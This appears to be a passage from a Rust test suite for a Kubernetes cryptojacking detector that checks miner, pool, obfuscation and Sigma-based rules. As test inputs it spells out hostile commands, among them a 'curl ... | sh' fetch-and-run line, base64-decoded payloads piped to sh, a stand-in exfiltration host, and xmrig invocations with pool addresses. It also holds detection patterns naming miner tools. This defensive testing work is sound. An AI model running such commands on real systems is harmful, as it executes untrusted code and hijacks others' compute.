        &["sh", "-c", &format!("echo {payload} | base64 -d | sh")],
        &["--threads=128"],
    );
    c.env = vec![EnvView {
        index: 0,
        name: "X".into(),
        value: "ping exfil.example.net".into(),
    }];
    let f = p.evaluate_offline(&pod(vec![c]));
    let got: Vec<(&str, &str)> = f
        .iter()
        .map(|f| (f.rule.as_str(), f.field.as_str()))
        .collect();
    assert!(
        got.contains(&("corp/exfil", "spec.containers[0].command[2]")),
        "{got:?}"
    );
    assert!(
        got.contains(&("corp/exfil", "spec.containers[0].env[0].value")),
        "{got:?}"
    );
    assert!(
        got.contains(&("policy/corp/commands[1]", "spec.containers[0].args[0]")),
        "{got:?}"
    );
    let decoded = f
        .iter()
        .find(|f| f.field == "spec.containers[0].command[2]")
        .unwrap();
    assert!(
        decoded.evidence.starts_with("decoded: "),
        "{}",
        decoded.evidence
    );
}

#[test]
fn invalid_patterns_are_policy_errors_naming_the_field() {
    let mut spec = CryptojackPolicySpec::default();
    spec.detect.images = vec![
        pat("ok", PatternSyntax::Substring, Severity::High),
        pat("x[", PatternSyntax::Glob, Severity::High),
        pat("(", PatternSyntax::Regex, Severity::High),
    ];
    spec.detect.commands = vec![pat("", PatternSyntax::Substring, Severity::High)];
    spec.detect.disabled_rules = vec!["builtin/port/stratum-port".into(), "builtin/nope".into()];
    let err = CompiledPolicy::compile("bad", &spec).unwrap_err();
    assert_eq!(err.policy, "bad");
    let fields: Vec<&str> = err.errors.iter().map(|e| e.field.as_str()).collect();
    assert_eq!(
        fields,
        [
            "spec.detect.disabledRules[1]",
            "spec.detect.images[1].pattern",
            "spec.detect.images[2].pattern",
            "spec.detect.commands[0].pattern",
        ]
    );
    let msg = err.to_string();
    assert!(
        msg.contains("spec.detect.images[2].pattern: invalid regex:"),
        "{msg}"
    );
}

// ---------------------------------------------------------------- Sigma

const PLAYBOOK_SIGMA: &str = r#"
title: Crypto Mining Process Detected
logsource: {product: linux, category: process_creation}
detection:
  selection:
    Image|contains: ['xmrig', 'minerd', 'cryptonight', 't-rex', 'phoenixminer']
  condition: selection
level: critical
"#;

#[test]
fn playbook_sigma_rule_as_is() {
    let rule: SigmaRule = serde_saphyr::from_str(PLAYBOOK_SIGMA).unwrap();
    let mut spec = CryptojackPolicySpec::default();
    spec.detect.builtin = false;
    spec.detect.gpu.enabled = false;
    spec.detect.sigma = vec![rule];
    let p = CompiledPolicy::compile("playbook", &spec).unwrap();
    let cases = [
        (
            container("x", "metal3d/xmrig:latest", &[], &["-o", "p:1"]),
            "spec.containers[0].image",
        ),
        (
            container(
                "t",
                "nvidia/cuda:12",
                &["sh", "-c"],
                &["wget -q x && ./t-rex -a kawpow"],
            ),
            "spec.containers[0].args[0]",
        ),
        (
            container("p", "ubuntu:22.04", &["/PhoenixMiner"], &["-pool", "x:1"]),
            "spec.containers[0].command[0]",
        ),
    ];
    for (c, field) in cases {
        let f = p.evaluate_offline(&pod(vec![c]));
        assert_eq!(f.len(), 1, "{f:#?}");
        assert_eq!(f[0].rule, "policy/playbook/sigma[0]");
        assert_eq!(f[0].severity, Severity::Critical);
        assert_eq!(f[0].field, field);
    }
    assert!(
        p.evaluate_offline(&pod(vec![container(
            "m",
            "minio/minio",
            &["minio", "server", "/data"],
            &[]
        )]))
        .is_empty()
    );
    assert_eq!(
        p.rule_count(),
        1 + 2,
        "one Sigma rule and the default node rules (instance types, spot)"
    );
}

#[test]
fn sigma_with_filter_and_errors() {
    let ok: SigmaRule = serde_saphyr::from_str(
        r#"
title: curl to raw IPs outside CI
id: corp-0001
level: medium
detection:
  selection:
    CommandLine|re: 'curl .*https?://\d+\.\d+\.\d+\.\d+'
  filter:
    Image|startswith: 'registry.ci.example/'
  condition: selection and not filter
"#,
    )
    .unwrap();
    let mut spec = CryptojackPolicySpec::default();
    spec.detect.builtin = false;
    spec.detect.sigma = vec![ok.clone()];
    let p = CompiledPolicy::compile("corp", &spec).unwrap();
    let c = |image: &str| {
        container(
            "c",
            image,
            &["sh", "-c", "curl -s http://192.0.2.1/x | sh"],
            &[],
        )
    };
    let f = p.evaluate_offline(&pod(vec![c("alpine")]));
    assert_eq!(rules(&f), ["sigma/corp-0001"]);
    assert_eq!(f[0].severity, Severity::Medium);
    assert!(
        p.evaluate_offline(&pod(vec![c("registry.ci.example/runner:1")]))
            .is_empty()
    );

    let bad: SigmaRule = serde_saphyr::from_str(
        "title: bad\ndetection:\n  selection:\n    Image|re: ['ok', '(unclosed']\n    User: root\n  condition: selection or\n",
    )
    .unwrap();
    spec.detect.sigma = vec![ok, bad];
    let err = CompiledPolicy::compile("corp", &spec).unwrap_err();
    let fields: Vec<&str> = err.errors.iter().map(|e| e.field.as_str()).collect();
    assert_eq!(
        fields,
        [
            "spec.detect.sigma[1].detection.selection.Image|re[1]",
            "spec.detect.sigma[1].detection.selection.User",
            "spec.detect.sigma[1].detection.condition",
        ]
    );
}

// ---------------------------------------------------------------- disabled rules, builtin off, counts

#[test]
fn disabled_rules_and_families() {
    let mut c = container(
        "c",
        "alpine",
        &["/bin/w"],
        &["--donate-level=1", "--cpu-priority=3"],
    );
    c.ports = vec![PortView {
        index: 0,
        container_port: 3333,
        protocol: None,
        name: None,
    }];
    let mut spec = CryptojackPolicySpec::default();
    spec.detect.disabled_rules = vec![
        "builtin/port/stratum-port".into(),
        "builtin/miner-flags".into(),
    ];
    let p = CompiledPolicy::compile("p", &spec).unwrap();
    assert!(p.evaluate_offline(&pod(vec![c.clone()])).is_empty());
    assert!(p.rule_count() < CompiledPolicy::builtin_default().rule_count());
    spec.detect.disabled_rules = vec!["builtin/miner-flags/donate-level".into()];
    let p = CompiledPolicy::compile("p", &spec).unwrap();
    assert_eq!(
        rules(&p.evaluate_offline(&pod(vec![c]))),
        [
            "builtin/miner-flags/cpu-priority",
            "builtin/port/stratum-port"
        ]
    );
}

#[test]
fn builtin_off_keeps_gpu_and_counts_rules() {
    let mut spec = CryptojackPolicySpec::default();
    spec.detect.builtin = false;
    spec.detect.commands = vec![pat(
        "exfil.example.net",
        PatternSyntax::Substring,
        Severity::Low,
    )];
    let p = CompiledPolicy::compile("p", &spec).unwrap();
    assert!(
        p.evaluate_offline(&pod(vec![container(
            "c",
            "metal3d/xmrig",
            &["./xmrig"],
            &[]
        )]))
        .is_empty()
    );
    assert_eq!(
        p.evaluate_offline(&gpu_pod(&[], &[(0, "nvidia.com/gpu", "1")], &[]))
            .len(),
        1
    );
    // one command pattern + GPU + two node rules (instance types, spot; regions need allowedRegions)
    assert_eq!(p.rule_count(), 1 + 1 + 2);
    let d = CompiledPolicy::builtin_default();
    assert!(d.rule_count() > 150, "{}", d.rule_count());
    assert_eq!(d.name(), "builtin-default");
}

// ---------------------------------------------------------------- scope

#[test]
fn applies_to_scope() {
    let spec: CryptojackPolicySpec = serde_saphyr::from_str(
        r#"
match:
  namespaceSelector:
    matchLabels: {tier: prod}
  podSelector:
    matchExpressions:
    - {key: app, operator: Exists}
  excludeNamespaces: [monitoring]
  exempt:
  - namespace: shop
    kind: Deployment
    name: hashing-*
    podSelector:
      matchLabels: {cryptojack.dev/exempt: "true"}
"#,
    )
    .unwrap();
    let p = CompiledPolicy::compile("scoped", &spec).unwrap();
    let mk = |ns: &str, labels: &[(&str, &str)]| {
        let mut v = pod(vec![]);
        v.namespace = Some(ns.into());
        v.labels = labels
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect();
        v
    };
    let map = |l: &[(&str, &str)]| -> BTreeMap<String, String> {
        l.iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    };
    let prod = map(&[("tier", "prod")]);
    let dev = map(&[("tier", "dev")]);
    let known = |l| EvalContext {
        namespace_labels: NamespaceLabels::Known(l),
        workload: None,
        node_labels: None,
    };
    let unknown = EvalContext {
        namespace_labels: NamespaceLabels::UnknownAssumeMatch,
        workload: None,
        node_labels: None,
    };
    assert!(p.applies_to(&mk("shop", &[("app", "web")]), &known(&prod)));
    assert!(
        p.applies_to(&mk("shop", &[("app", "web")]), &unknown),
        "labels unknown, by the caller's explicit choice: selector treated as matching"
    );
    assert!(!p.applies_to(&mk("shop", &[("app", "web")]), &known(&dev)));
    assert!(
        !p.applies_to(&mk("shop", &[("role", "x")]), &unknown),
        "pod selector"
    );
    assert!(
        !p.applies_to(&mk("monitoring", &[("app", "web")]), &unknown),
        "excluded namespace"
    );
    let labelled = mk("shop", &[("app", "web"), ("cryptojack.dev/exempt", "true")]);
    let workload = |kind, name| EvalContext {
        workload: Some(Workload { kind, name }),
        ..unknown
    };
    assert!(
        !p.applies_to(&labelled, &workload("Deployment", "hashing-bench")),
        "exempt: the namespace and workload named, the label narrowing"
    );
    assert!(
        p.applies_to(&labelled, &workload("Deployment", "web")),
        "the label alone grants nothing"
    );
    assert!(
        p.applies_to(
            &mk("shop", &[("app", "web")]),
            &workload("Deployment", "hashing-bench")
        ),
        "the label narrows the exemption"
    );
    assert!(
        p.applies_to(&labelled, &unknown),
        "exemptions wait until the workload is known"
    );
    // kube-system is not exempt by default
    assert!(CompiledPolicy::builtin_default().applies_to(&mk("kube-system", &[]), &unknown));
}

#[test]
fn invalid_selectors_are_policy_errors() {
    let spec: CryptojackPolicySpec = serde_saphyr::from_str(
        "match:\n  podSelector:\n    matchExpressions:\n    - {key: app, operator: Contains, values: [x]}\n  exempt:\n  - namespace: x\n    podSelector:\n      matchExpressions:\n      - {key: a, operator: In}\n",
    )
    .unwrap();
    let err = CompiledPolicy::compile("p", &spec).unwrap_err();
    let fields: Vec<&str> = err.errors.iter().map(|e| e.field.as_str()).collect();
    assert_eq!(
        fields,
        [
            "spec.match.podSelector.matchExpressions[0].operator",
            "spec.match.exempt[0].podSelector.matchExpressions[0].values"
        ]
    );
}

#[test]
fn compiled_policy_is_send_sync_and_cheap_to_clone() {
    fn assert_send_sync<T: Send + Sync + Clone>() {}
    assert_send_sync::<CompiledPolicy>();
    let p = CompiledPolicy::builtin_default();
    let q = p.clone();
    let h = std::thread::spawn(move || {
        q.evaluate_offline(&pod(vec![container("c", "metal3d/xmrig", &[], &[])]))
            .len()
    });
    assert!(h.join().unwrap() >= 1);
    assert_eq!(p.name(), "builtin-default");
}

#[test]
fn default_findings_of_a_plain_manifest_are_empty() {
    let f = default_findings(
        "apiVersion: v1\nkind: Pod\nmetadata: {name: web}\nspec:\n  containers:\n  - name: web\n    image: nginx:1.27\n    args: [\"nginx\", \"-g\", \"daemon off;\"]\n",
    );
    assert!(f.is_empty(), "{f:#?}");
}

#[test]
fn arbitrary_input_does_not_panic() {
    // deterministic pseudo-random strings mixing shell syntax, base64, unicode and signatures
    let alphabet: Vec<&str> = vec![
        " ",
        "'",
        "\"",
        "\\",
        "$(",
        ")",
        "`",
        "|",
        "&&",
        ";",
        "<<<",
        ">&",
        "\n",
        "-o",
        "--url=",
        "=",
        ":",
        "/",
        "xmrig",
        "stratum+tcp://",
        "supportxmr.com",
        "base64 -d",
        "echo ",
        "sh -c ",
        "é",
        "ß",
        "😀",
        "0x",
        "4",
        "a",
        "Z9",
        "aGVsbG8gd29ybGQ=",
        "--donate-level",
        "-a",
        "rx/0",
        "trex",
        ".",
        "@",
        "#",
        "(",
        "<(",
        XMR,
    ];
    let mut seed: u64 = 0x9e3779b97f4a7c15;
    let mut next = || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    let policy = CompiledPolicy::builtin_default();
    for _ in 0..400 {
        let mut s = String::new();
        for _ in 0..(next() % 40) {
            s.push_str(alphabet[(next() % alphabet.len() as u64) as usize]);
        }
        let reversed: String = s.chars().rev().collect();
        let mut c = container("c", &s, &["sh", "-c", &s], &[&s, &reversed]);
        c.env = vec![EnvView {
            index: 0,
            name: "E".into(),
            value: s.clone(),
        }];
        for f in policy.evaluate_offline(&pod(vec![c])) {
            assert!(f.evidence.chars().count() <= 120);
        }
    }
}

// ---------------------------------------------------------------- adversarial review

#[test]
fn legitimate_workloads_stay_quiet() {
    let quiet: &[(&str, &[&str], &[&str])] = &[
        (
            "pytorch/pytorch:2.3.0-cuda12.1",
            &["python", "train.py", "--algo", "ppo"],
            &[],
        ),
        (
            "pytorch/pytorch:2.3.0",
            &[
                "torchrun",
                "--nproc_per_node=8",
                "train.py",
                "--threads",
                "4",
                "-o",
                "output.json",
            ],
            &[],
        ),
        (
            "deepspeed/deepspeed:latest",
            &[
                "deepspeed",
                "--num_gpus",
                "8",
                "train.py",
                "--deepspeed_config",
                "ds.json",
            ],
            &[],
        ),
        (
            "bitnami/pgbouncer:1.22",
            &[
                "pgbouncer",
                "--pool-mode",
                "transaction",
                "/etc/pgbouncer.ini",
            ],
            &[],
        ),
        (
            "python:3.12",
            &[
                "celery",
                "worker",
                "--pool",
                "prefork",
                "--concurrency",
                "4",
            ],
            &[],
        ),
        (
            "python:3.12",
            &["gunicorn", "-w", "4", "-b", "0.0.0.0:8000", "app:app"],
            &[],
        ),
        ("minio/minio:latest", &[], &["server", "/data"]),
        ("bitnami/minideb:bookworm", &[], &[]),
        ("hexparrot/mineos:latest", &[], &[]),
        ("itzg/minecraft-server:java21", &[], &[]),
        ("prom/pushgateway:v1.9.0", &[], &[]),
        ("grafana/grafana:11.0.0", &[], &[]),
        ("redis:7", &["redis-server", "--port", "3333"], &[]),
        ("rabbitmq:3-management", &[], &[]),
        (
            "jupyter/tensorflow-notebook",
            &[],
            &["start-notebook.sh", "--NotebookApp.token="],
        ),
        ("rapidminer/rapidminer-server:latest", &[], &[]),
        (
            "ghcr.io/example/process-mining:1.0",
            &["python", "-m", "pm4py"],
            &[],
        ),
        (
            "ethereum/client-go:v1.14",
            &[],
            &["--http", "--syncmode", "snap"],
        ),
        (
            "sethsimmons/simple-monerod",
            &[
                "monerod",
                "--rpc-bind-ip",
                "0.0.0.0",
                "--confirm-external-bind",
                "--non-interactive",
            ],
            &[],
        ),
        (
            "ruimarinho/bitcoin-core:24",
            &["bitcoind", "-server", "-rpcbind=0.0.0.0"],
            &[],
        ),
        ("lightninglabs/lnd:v0.18", &["lnd", "--bitcoin.active"], &[]),
        ("node:20", &["node", "app.js", "--contract", ETH], &[]),
        (
            "alpine",
            &[
                "verify",
                "--sha256",
                "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            ],
            &[],
        ),
        // responders' own tooling names miners without running them
        (
            "alpine",
            &[
                "sh",
                "-c",
                "ps aux | grep -v grep | grep xmrig && pkill -f xmrig; killall minerd",
            ],
            &[],
        ),
        (
            "bitnami/kubectl",
            &["kubectl", "delete", "pod", "-l", "app=xmrig"],
            &[],
        ),
    ];
    for (image, command, args) in quiet {
        let mut c = container("c", image, command, args);
        c.ports = [5672, 15672, 25565, 3000, 8545, 18081, 9735]
            .iter()
            .enumerate()
            .map(|(index, &p)| PortView {
                index,
                container_port: p,
                protocol: None,
                name: None,
            })
            .collect();
        c.env = vec![EnvView {
            index: 0,
            name: "DB_POOL".into(),
            value: "db.internal.example.com:5432".into(),
        }];
        let f = run(c);
        assert!(
            max_severity(&f) < Some(Severity::Medium),
            "{image} {command:?} {args:?}: {f:#?}"
        );
    }
}

#[test]
fn monerod_mining_is_not_a_quiet_node() {
    let f = run(container(
        "c",
        "sethsimmons/simple-monerod",
        &["monerod", "--start-mining", XMR, "--mining-threads", "4"],
        &[],
    ));
    assert!(max_severity(&f) >= Some(Severity::High), "{f:#?}");
}

/// Hostile input: huge strings, deep nesting, many containers, binary payloads. Bounded work,
/// no panic, evidence stays short, and real indicators next to the junk are still found.
#[test]
fn hostile_input_is_bounded() {
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    // a 10 MB argument and a 100k-character image
    let huge = "x".repeat(10 << 20);
    let long_image = "a/".repeat(50_000);
    let f = run(container(
        "c",
        &long_image,
        &["/app"],
        &[&huge, "--donate-level", "1"],
    ));
    assert!(
        rules(&f).contains(&"builtin/miner-flags/donate-level"),
        "{f:#?}"
    );
    // a 4 MB script of simple commands (analysed up to its size bound): the miner at its
    // start is still found
    let script = format!("xmrig -o pool.supportxmr.com:443;{}", "a;".repeat(2 << 20));
    let f = run(container("c", "alpine", &["sh", "-c", &script], &[]));
    assert!(rules(&f).contains(&"builtin/miner-binary/xmrig"), "{f:#?}");
    // base64 nested 30 deep: decoding stops at the depth bound without a panic; 3 deep is seen
    let mut deep = String::from("xmrig --donate-level 1");
    for level in 1..=30 {
        deep = format!("echo {} | base64 -d | sh", b64(&deep));
        if level == 3 {
            let f = run(container("c", "alpine", &["sh", "-c", &deep], &[]));
            assert!(rules(&f).contains(&"builtin/miner-binary/xmrig"), "{f:#?}");
        }
    }
    let _ = run(container("c", "alpine", &["sh", "-c", &deep], &[]));
    // decoded payloads that are not UTF-8, and many of them (total decoded bytes are bounded)
    let binary: Vec<u8> = (0..=255u8).cycle().take(48 << 10).collect();
    let junk = base64::engine::general_purpose::STANDARD.encode(&binary);
    let many = format!("echo {junk} | base64 -d | sh;").repeat(64);
    let f = run(container("c", "alpine", &["sh", "-c", &many], &[]));
    assert_eq!(rules(&f), ["builtin/obfuscation/uninspected"], "{f:#?}");
    // binary data run by a shell: what it runs cannot be read, which is high on its own
    assert_eq!(f[0].severity, Severity::High);
    assert!(
        f[0].evidence.contains("cannot decode to text, run by `sh`"),
        "{f:#?}"
    );
    let f = run(container(
        "c",
        "alpine",
        &["sh", "-c", &format!("echo {junk} | base64 -d > /tmp/blob")],
        &[],
    ));
    assert!(f.iter().all(|f| f.severity <= Severity::Medium), "{f:#?}");
    // deeply nested command substitutions and unbalanced quotes
    let nested = format!("{}xmrig{}", "$(".repeat(5_000), ")".repeat(5_000));
    let _ = run(container("c", "alpine", &["sh", "-c", &nested], &[]));
    let quotes = "'\"`".repeat(100_000);
    let _ = run(container("c", "alpine", &["sh", "-c", &quotes], &[]));
    // 20,000 pool options in one argv (was quadratic in the number of pool words): one
    // finding per pool word
    let pairs: Vec<&str> = ["-o", "pool.supportxmr.com:3333"].repeat(20_000);
    let f = run(container("c", "alpine", &["xmrig"], &pairs));
    assert_eq!(
        f.iter()
            .filter(|f| f.rule == "builtin/pool/known-pool")
            .count(),
        20_000
    );
    // 1000 miner containers: every one is reported, every evidence is short
    let containers: Vec<ContainerView> = (0..1000)
        .map(|i| {
            let mut c = container(
                &format!("c{i}"),
                "alpine",
                &["sh", "-c"],
                &[&format!("./xmrig -o pool.supportxmr.com:443 -u {XMR}")],
            );
            c.index = i;
            c
        })
        .collect();
    let f = CompiledPolicy::builtin_default().evaluate_offline(&pod(containers));
    let named: std::collections::HashSet<_> = f
        .iter()
        .filter(|f| f.rule == "builtin/miner-binary/xmrig")
        .filter_map(|f| f.container.as_deref())
        .collect();
    assert_eq!(named.len(), 1000);
    assert!(f.iter().all(|f| f.evidence.chars().count() <= 120));
}

#[test]
fn cisco_trex_paths_are_its_own_files() {
    let script = "cd /var/trex/v2.41 && ./t-rex-64 -f cap2/dns.yaml -c 4 -m 1 -d 10";
    let f = run(container(
        "c",
        "trexcisco/trex:v2.41",
        &["sh", "-c", script],
        &[],
    ));
    assert!(f.is_empty(), "{f:#?}");
    // the same path in another image is still a mention of the T-Rex miner
    let f = run(container("c", "alpine", &["sh", "-c", script], &[]));
    assert!(rules(&f).contains(&"builtin/miner-binary/trex"), "{f:#?}");
    // and the known image does not hide real mining
    let f = run(container(
        "c",
        "trexcisco/trex:v2.41",
        &["sh", "-c", "./t-rex -o stratum+tcp://rvn.2miners.com:6060"],
        &[],
    ));
    assert!(max_severity(&f) == Some(Severity::Critical), "{f:#?}");
}

#[test]
fn password_hashing_algorithms_need_a_miner_like_command() {
    for argv in [
        &[
            "python",
            "bench.py",
            "--algorithm",
            "scrypt",
            "--rounds",
            "10",
        ][..],
        &["hasher", "-a", "yescrypt", "/etc/shadow"],
    ] {
        let f = run(container("c", "python:3.12", argv, &[]));
        assert!(f.is_empty(), "{argv:?}: {f:#?}");
    }
    // with a miner, a pool argument or a wallet around, the same value counts
    for argv in [
        &[
            "cpuminer",
            "-a",
            "scrypt",
            "-o",
            "stratum+tcp://ltc.example.net:3333",
        ][..],
        &[
            "./svc",
            "--algo",
            "scrypt",
            "--url",
            "pool.example.net:3333",
        ],
    ] {
        let f = run(container("c", "alpine", argv, &[]));
        assert!(
            rules(&f).contains(&"builtin/miner-flags/algorithm"),
            "{argv:?}: {f:#?}"
        );
    }
}
